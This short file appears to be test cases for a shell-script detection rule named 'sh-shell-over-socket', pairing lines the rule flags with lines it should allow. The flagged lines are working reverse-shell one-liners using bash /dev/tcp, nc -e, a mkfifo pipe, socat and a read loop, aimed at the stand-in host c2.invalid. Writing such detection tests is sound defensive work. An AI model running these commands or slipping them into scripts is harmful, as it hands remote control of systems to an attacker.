# ruleid: sh-shell-over-socket
bash -i >& /dev/tcp/c2.invalid/4444 0>&1
# ruleid: sh-shell-over-socket
nc -e /bin/sh c2.invalid 4444
# ruleid: sh-shell-over-socket
rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc c2.invalid 4444 > /tmp/f
# ruleid: sh-shell-over-socket
socat tcp:c2.invalid:443 exec:'bash -li',pty
# ruleid: sh-shell-over-socket
python3 -c 'import pty; pty.spawn("/bin/sh")'
# ruleid: sh-shell-over-socket
exec 5<>/dev/tcp/c2.invalid/443
cat <&5 | while read line; do $line 2>&5 >&5; done
# ok: sh-shell-over-socket
until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done
# ok: sh-shell-over-socket
nc -z localhost 5432
# ok: sh-shell-over-socket
mkfifo /tmp/pipe
# ok: sh-shell-over-socket
socat - UNIX-CONNECT:/run/x.sock
# ok: sh-shell-over-socket
ncat --version
